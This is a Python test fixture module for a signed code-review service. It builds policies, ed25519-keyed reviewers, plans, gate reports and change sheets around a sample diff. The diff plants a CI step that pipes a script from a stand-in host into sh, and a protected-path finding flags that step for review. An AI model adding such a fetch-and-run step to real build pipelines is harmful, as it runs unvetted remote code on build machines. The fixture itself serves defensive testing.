"""Real keys, and items worth reviewing. No behaviour of the room is replaced."""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass, field
from datetime import timedelta

from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from review_store import NOW, FixedClock, MemoryBlobs, MemoryIndex

from orchestrator.errors import EvidenceInvalid
from orchestrator.models.capabilities import Capabilities
from orchestrator.models.change import Change, ChangedFile, ChangeIdentity, ChangeKind, Hunk
from orchestrator.models.decision import Decision, ReviewItem, SubjectKind
from orchestrator.models.found import Disposition, Finding, GateReport, Result
from orchestrator.models.gate import AcceptanceReport, AcceptanceRun, Demonstration
from orchestrator.models.ids import Digest, GitOid, RequirementId, RunId, StepId, sha256
from orchestrator.models.plan import Acceptance, Plan, Source, SourceKind, Step, WritePath
from orchestrator.models.policy import Policy, Principal, Role
from orchestrator.models.review import ChangeSheet, ReviewSheet
from orchestrator.models.run import Run, RunStatus
from orchestrator.models.spec import Criterion, Requirement, Span
from orchestrator.review.service import Reviews

RUN = RunId("20261122-abc234")


class Person:
    """A name with a real ed25519 key; seals like a DSSE line does: a payload and a signature over it."""

    def __init__(self, name):
        self.name = name
        self._key = Ed25519PrivateKey.from_private_bytes(sha256(name.encode())[-32:].encode())
        raw = self._key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
        self.public_key = raw.hex()
        self.keyid = sha256(raw).removeprefix("sha256:")

    def principal(self):
        return Principal(name=self.name, keyid=self.keyid, public_key=self.public_key)

    def seal(self, decision):
        body = decision.to_bytes()
        words = {
            "payload": base64.b64encode(body).decode(),
            "keyid": self.keyid,
            "sig": base64.b64encode(self._key.sign(body)).decode(),
        }
        return self.keyid, json.dumps(words).encode()


def opener(policy):
    def open_decision(line):
        words = json.loads(line)
        body = base64.b64decode(words["payload"])
        key = Ed25519PublicKey.from_public_bytes(bytes.fromhex(policy.principal(words["keyid"]).public_key))
        try:
            key.verify(base64.b64decode(words["sig"]), body)
        except InvalidSignature:
            raise EvidenceInvalid("PROV001", "a signature does not verify") from None
        return words["keyid"], Decision.model_validate_json(body)

    return open_decision


ANN, BOB, EVE, SAM = Person("ann"), Person("bob"), Person("eve"), Person("sam")


def policy(threshold=1, lift_roles=("reviewer",)):
    """Ann and Bob review, Sam reviews and holds ``security``; Eve is known and holds nothing."""
    return Policy(
        version=1,
        expires=NOW + timedelta(days=365),
        roles={
            "reviewer": Role(principals=("ann", "bob", "sam"), threshold=threshold),
            "security": Role(principals=("sam",)),
        },
        principals=tuple(p.principal() for p in (ANN, BOB, EVE, SAM)),
        lift_roles=lift_roles,
    )


@dataclass
class House:
    """One repository's store and policy."""

    policy: Policy = field(default_factory=policy)
    index: MemoryIndex = field(default_factory=MemoryIndex)
    blobs: MemoryBlobs = field(default_factory=MemoryBlobs)

    def reviews(self, person=ANN, **changes):
        parts = {
            "index": self.index,
            "blobs": self.blobs,
            "seal": person.seal,
            "open_decision": opener(self.policy),
            "policy": self.policy,
            "reviewer": person.name,
            "keyid": person.keyid,
            "clock": FixedClock(),
        }
        return Reviews(**(parts | changes))

    def add(self, sheet, *, kind=SubjectKind.CHANGE, item_id="item-1", title="Add a search box", threshold=1, **more):
        """Store a sheet and an item that asks about it."""
        last = sheet.changes[-1].change.identity if sheet.changes else None
        found = [f for c in sheet.changes for r in c.reports for f in r.findings]
        values = {
            "id": item_id,
            "run": RUN,
            "node": "review",
            "kind": kind,
            "step": StepId("S01") if kind is SubjectKind.CHANGE else None,
            "subject": (last or sheet.plan or sheet.work).digest(),
            "change": last,
            "document": self.blobs.put(sheet.to_bytes()),
            "shown": tuple(r.digest() for c in sheet.changes for r in c.reports),
            "findings": tuple(f.fingerprint for f in found if f.disposition is Disposition.PERSON),
            "title": title,
            "role": "reviewer",
            "threshold": threshold,
            "created_at": NOW - timedelta(hours=1),
        }
        item = ReviewItem(**(values | more))
        self.index.add_item(item)
        self.index.save_run(run())
        return item

    def change(self, text=None, hunks=None, **more):
        """A stored change sheet of a diff."""
        text = DIFF if text is None else text
        self.blobs.put(text)
        return change_sheet(text, HUNKS if hunks is None else hunks, **more)


def run(status=RunStatus.WAITING):
    return Run(
        id=RUN,
        repository="shop",
        spec_path="prd.md",
        spec=sha256(b"spec"),
        spec_source=sha256(b"prd"),
        workflow="prd-to-code",
        workflow_digest=sha256(b"wf"),
        base_commit=GitOid("1" * 40),
        target_ref="refs/heads/main",
        run_ref=f"refs/heads/handrail/{RUN}",
        agent="scripted",
        settings=sha256(b"settings"),
        status=status,
        created_at=NOW,
        updated_at=NOW,
    )


DIFF = b"""\
diff --git a/shop/search.py b/shop/search.py
index 1111111111111111111111111111111111111111..2222222222222222222222222222222222222222 100644
--- a/shop/search.py
+++ b/shop/search.py
@@ -1,6 +1,9 @@
 import sqlite3
~
~
 def find(connection: sqlite3.Connection, words: str) -> list[str]:
-    return []
+    # every product whose name holds the words, best first
+    query = "SELECT name FROM product WHERE name LIKE ? ORDER BY name"
+    rows = connection.execute(query, (f"%{words}%",))
+    return [name for (name,) in rows]
~
@@ -20,3 +23,3 @@ def count(connection):
 def limit() -> int:
-    return 10
+    return 25
~
diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml
index 3333333333333333333333333333333333333333..4444444444444444444444444444444444444444 100644
--- a/.github/workflows/ci.yml
+++ b/.github/workflows/ci.yml
@@ -7,3 +7,4 @@ jobs:
     steps:
       - run: make check
+      - run: curl https://example.invalid/install.sh | sh
       - run: make test
""".replace(b"~", b" ")


def hunk(path, old, new, name=""):
    return Hunk(
        id=sha256(f"{path}{old}{new}{name}".encode()),
        path=path,
        definition="find",
        old_start=old[0],
        old_lines=old[1],
        new_start=new[0],
        new_lines=new[1],
    )


HUNKS = (
    hunk("shop/search.py", (1, 6), (1, 9)),
    hunk("shop/search.py", (20, 3), (23, 3)),
    hunk(".github/workflows/ci.yml", (7, 3), (7, 4)),
)


def finding(name="protected-path", kind=Disposition.PERSON, path=".github/workflows/ci.yml", line=9, **more):
    values = {
        "rule": name,
        "message": "a protected path is changed",
        "path": path,
        "line": line,
        "disposition": kind,
        "fingerprint": sha256(f"{name}{path}{line}".encode()),
        "hint": "look at what the build would run",
    }
    return Finding(**(values | more))


def identity(name="tree"):
    return ChangeIdentity(
        target_ref=f"refs/heads/handrail/{RUN}",
        tip=GitOid("a" * 40),
        tree=GitOid(sha256(name.encode())[-40:]),
        manifest=sha256(name.encode()),
    )


def report(of, findings=(), result=None, gate="bandit"):
    needs = any(f.disposition is Disposition.PERSON for f in findings)
    return GateReport(
        gate=gate,
        tool=gate,
        tool_version="1.9.4",
        config=sha256(b"config"),
        change=of,
        result=result or (Result.NEEDS_PERSON if needs else Result.PASSED),
        findings=tuple(findings),
    )


def requirement(number=1, statement="WHEN a customer types words, the shop SHALL list the products that hold them."):
    return Requirement(
        id=RequirementId(f"shop/REQ-00{number}"),
        title="Search",
        statement=statement,
        acceptance=(Criterion(text="An empty search lists nothing.", span=Span(line=14, end_line=14)),),
        span=Span(line=12, end_line=14),
        text_digest=sha256(statement.encode()),
    )


def step(number=1, title="Find products by their name", *, inferred=False):
    kind = SourceKind.INFERRED if inferred else SourceKind.SPEC
    return Step(
        id=StepId(f"S0{number}"),
        title=title,
        requirements=(RequirementId("shop/REQ-001"),),
        depends_on=() if number == 1 else (StepId("S01"),),
        instruction="Make the search find every product whose name holds the words.\nKeep the signature.",
        write=(WritePath(glob="shop/**", source=Source(kind=kind, place="prd.md:21")),),
        acceptance=(
            Acceptance(
                argv=("python", "-m", "pytest", "-q", "tests/test_search.py"),
                source=Source(kind=SourceKind.PROFILE, place="test_command"),
            ),
        ),
        capabilities=Capabilities(write=("shop/**",)),
        alone=inferred,
    )


def acceptance(of, shows=Demonstration.DEMONSTRATED, result=Result.PASSED):
    ran = AcceptanceRun(
        argv=("python", "-m", "pytest", "-q", "tests/test_search.py"),
        source="profile",
        exit_on_base=1,
        exit_on_change=0,
        shows=shows,
        output=sha256(b"output"),
    )
    return AcceptanceReport(change=of, image=sha256(b"image"), environment=None, result=result, runs=(ran,))


def change_sheet(text, hunks, *, findings=(), reports=None, files=None, accepted=None, **more):
    of = identity()
    names = dict.fromkeys(h.path for h in hunks)
    changed = files or tuple(
        ChangedFile(path=n, kind=ChangeKind.MODIFIED, added_lines=4, removed_lines=2) for n in names
    )
    change = Change(
        run=RUN,
        step=StepId("S01"),
        attempt=1,
        proposal=sha256(b"proposal"),
        identity=of,
        files=changed,
        hunks=tuple(hunks),
        diff=sha256(text),
    )
    values = {
        "step": step(),
        "requirements": (requirement(),),
        "change": change,
        "reports": (report(of, findings), report(of, gate="ruff")) if reports is None else reports,
        "acceptance": accepted or acceptance(of),
        "summary": "I wrote the query and a limit.",
        "denials": ("sandbox: write to README.md is not granted to this step",),
    }
    return ChangeSheet(**(values | more))


def sheet(*changes, plan=None):
    return ReviewSheet(spec_path="prd.md", spec_title="Search in the shop", plan=plan, changes=changes)


def plan_sheet(steps=None):
    plan = Plan(
        spec=sha256(b"spec"),
        spec_source=sha256(b"prd"),
        spec_path="prd.md",
        workflow=sha256(b"wf"),
        profile=sha256(b"profile"),
        base_commit=GitOid("1" * 40),
        target_ref="refs/heads/main",
        steps=steps or (step(), step(2, "Show the number of results", inferred=True)),
    )
    return ReviewSheet(spec_path="prd.md", spec_title="Search in the shop", plan=plan, requirements=(requirement(),))


def digests(count):
    return [Digest(sha256(bytes([n]))) for n in range(count)]
